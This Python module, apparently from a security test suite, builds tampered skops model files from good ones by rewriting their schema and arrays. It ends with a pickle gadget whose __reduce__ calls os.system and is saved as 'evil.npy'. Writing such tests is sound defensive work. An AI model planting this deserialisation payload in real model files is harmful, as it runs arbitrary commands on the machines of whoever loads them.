"""Making hostile skops files out of good ones."""

from __future__ import annotations

import functools
import io
import itertools
import json
import os
import pickle
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import skops.io
from sklearn.base import ClassifierMixin

from hostile.bait import command

numbers = itertools.count(2**50)


class SkopsFile:
    """A skops file to be changed: `schema`, and `members` without it."""

    def __init__(self, content: bytes) -> None:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            self.members = {info.filename: archive.read(info) for info in archive.infolist()}
        self.schema: dict[str, Any] = json.loads(self.members.pop("schema.json"))

    def save(self, folder: Path) -> None:
        """Write it as the head of a model."""
        with zipfile.ZipFile(path_of(folder), "w") as archive:
            for name, content in self.members.items():
                archive.writestr(name, content)
            archive.writestr("schema.json", json.dumps(self.schema))

    def objects(self, name: str) -> list[dict[str, Any]]:
        """Return the descriptions of all objects of a class."""
        return [state for state in states(self.schema) if state.get("__class__") == name and "content" in state]

    def change(self, array: dict[str, Any], change: Callable[[Any], Any]) -> None:
        """Replace an array by what a function makes of it."""
        content = np.load(io.BytesIO(self.members[array["file"]])).copy()
        changed = change(content)
        self.members[array["file"]] = npy(content if changed is None else changed)


def states(state: Any) -> Iterator[dict[str, Any]]:
    if isinstance(state, dict):
        yield state
    for value in state.values() if isinstance(state, dict) else state if isinstance(state, list) else ():
        yield from states(value)


def path_of(folder: Path) -> Path:
    return folder / "head" / "head.skops"


def npy(array: Any) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=False)
    return buffer.getvalue()


def good(folder: Path) -> SkopsFile:
    return SkopsFile(path_of(folder).read_bytes())


@functools.cache
def _texts(width: int, classes: tuple[Any, ...]) -> tuple[Any, Any]:
    x = np.random.default_rng(0).normal(size=(20 * len(classes), width)).astype(np.float32)
    return x, np.repeat(np.array(classes), 20)


def trained(folder: Path, head: ClassifierMixin) -> SkopsFile:
    """Return a file of this head, trained for the width and the classes of the model."""
    with zipfile.ZipFile(path_of(folder)) as archive:
        schema = json.loads(archive.read("schema.json"))
        attributes = schema["content"]["content"]
        width = json.loads(attributes["n_features_in_"]["content"])
        classes = np.load(io.BytesIO(archive.read(attributes["classes_"]["file"])))
    x, y = _texts(width, tuple(classes.tolist()))
    return SkopsFile(skops.io.dumps(head.fit(x, y)))


def attributes_of(state: dict[str, Any]) -> dict[str, Any]:
    attributes: dict[str, Any] = state["content"]["content"]
    return attributes


def plain(value: Any) -> dict[str, Any]:
    content = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "is_json": True}
    return {**content, "content": json.dumps(value), "__id__": next(numbers)}


def container(kind: str, items: list[Any]) -> dict[str, Any]:
    state = {"__class__": kind, "__module__": "builtins", "__loader__": f"{kind.title()}Node"}
    return {**state, "content": items, "__id__": next(numbers)}


def add(state: dict[str, Any], name: str, value: dict[str, Any]) -> None:
    """Give an estimator one attribute more."""
    kinds = state["content"]["key_types"]["content"]
    kinds.append({**kinds[0]})
    attributes_of(state)[name] = value


def replace(state: dict[str, Any], **changes: Any) -> None:
    """Replace the description of an object by another one."""
    kept = {key: state[key] for key in ("protocol", "_skops_version") if key in state}
    state.clear()
    state.update(kept, **changes)


class Gadget:
    def __init__(self, what: str) -> None:
        self._what = what

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self._what,)


def pickled(folder: Path) -> Path:
    path = folder / "evil.npy"
    path.write_bytes(pickle.dumps(Gadget(command(folder))))
    return path
